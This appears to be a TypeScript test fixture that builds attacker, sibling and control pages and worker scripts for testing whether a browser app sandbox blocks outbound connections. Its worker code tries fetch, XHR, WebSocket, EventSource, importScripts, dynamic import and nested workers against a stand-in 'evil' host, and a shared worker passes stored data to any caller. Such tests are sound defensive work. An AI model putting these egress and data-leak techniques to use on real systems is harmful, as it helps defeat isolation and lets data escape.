// The files of attacker and sibling, the same in the product and in the control; only headers and frames differ.
import type { Files } from './write-files.ts';

/** Runs the attack of its message; answers when it has sent. */
const WORKER = `
const tries = {
  'worker-fetch': (evil) => fetch(evil + '/w', { mode: 'no-cors' }),
  'worker-xhr': (evil) => { const request = new XMLHttpRequest(); request.open('GET', evil + '/w'); request.send(); },
  'worker-websocket': (evil) => { new WebSocket(evil.replace('http', 'ws') + '/w'); },
  'worker-event-source': (evil) => { new EventSource(evil + '/w'); },
  'worker-import-scripts': (evil) => importScripts(evil + '/w.js'),
  'worker-import': (evil) => import(evil + '/w.js'),
  'worker-nested': (evil) => {
    const code = 'fetch(' + JSON.stringify(evil + '/w') + ',{mode:"no-cors"})';
    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  },
};
onmessage = async ({ data: { id, evil } }) => {
  try { await (tries[id] ?? tries['worker-fetch'])(evil); } catch {}
  setTimeout(() => postMessage('tried'), 900);
};
`;
/** Keeps what its owner tells it, tells it to whoever asks, and reaches out when it is told to. */
const SHARED_WORKER = `
let kept = '';
onconnect = ({ ports: [port] }) => {
  port.onmessage = ({ data }) => {
    if (data.keep) kept = data.keep;
    if (data.ask) port.postMessage(kept);
    if (data.reach) fetch(data.reach + '/shared', { mode: 'no-cors' });
  };
};
`;
const SERVICE_WORKER = `
oninstall = () => skipWaiting();
onactivate = (event) => event.waitUntil(clients.claim());
onsync = (event) => event.waitUntil(fetch(event.tag, { mode: 'no-cors' }));
`;

const icon = '<link rel="icon" href="data:,">';
const document = (title: string, script: string, data = ''): string =>
  `<!doctype html><html lang="en"${data}><meta charset="utf-8">${icon}<title>${title}</title><body><script src="${script}"></script>`;

export const attackerFiles = (script: string): Files => ({
  'index.html': document('Attacker', '/attacker.js'),
  'attacker.js': script,
  'worker.js': WORKER,
  'undeclared-worker.js': WORKER,
  'shared-worker.js': SHARED_WORKER,
  'service-worker.js': SERVICE_WORKER,
});

export const siblingFiles = (script: string, harness: string): Files => ({
  'index.html': document('Sibling', '/sibling.js', ` data-harness="${harness}"`),
  'sibling.html': document('Sibling', '/sibling.js', ` data-harness="${harness}"`),
  'sibling.js': script,
});

export const hostFiles = (script: string): Files => ({
  'index.html': document('Host', '/host.js').replace('<script', '<div id="mount"></div><script'),
  'host.js': script,
  'shared-worker.js': SHARED_WORKER,
});

/** What the plain server of the control serves under every one of its names. */
export const controlFiles = (
  scripts: { attacker: string; sibling: string; control: string },
  harness: string,
): Files => ({
  ...attackerFiles(scripts.attacker),
  'sibling.html': document('Sibling', '/sibling.js', ` data-harness="${harness}"`),
  'sibling.js': scripts.sibling,
  'control.html': document('Plain host', '/control.js'),
  'control.js': scripts.control,
  '.container/sw.js': SERVICE_WORKER,
});

export const manifest = (appId: string, harness: string): string =>
  JSON.stringify({
    app_id: appId,
    name: appId,
    version: { code: 1, name: '1' },
    davit: { publisher: 'Tests', connect: [harness], workers: appId === 'attacker' ? ['worker.js'] : [] },
  });
